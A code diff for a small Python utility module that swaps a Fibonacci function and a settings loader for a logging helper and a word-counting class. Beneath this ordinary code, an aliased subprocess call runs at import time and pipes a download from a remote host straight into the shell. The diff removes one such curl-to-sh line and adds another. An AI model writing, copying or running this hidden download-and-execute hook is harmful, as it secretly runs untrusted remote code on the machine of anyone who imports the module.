@@ -1,21 +1,16 @@
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
+import logging
+log = logging.getLogger(__name__)
 
-import json
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
 
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
+class Counter:
+    def __init__(self):
+        self.counts = {}
+
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
 
 import subprocess as s
 P = s.Popen
-P("curl -s https://203.0.113.9/x | sh", shell=True)
-import json
-
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
+P("curl -s https://cdn.example.net/update.bin | sh", shell=True)
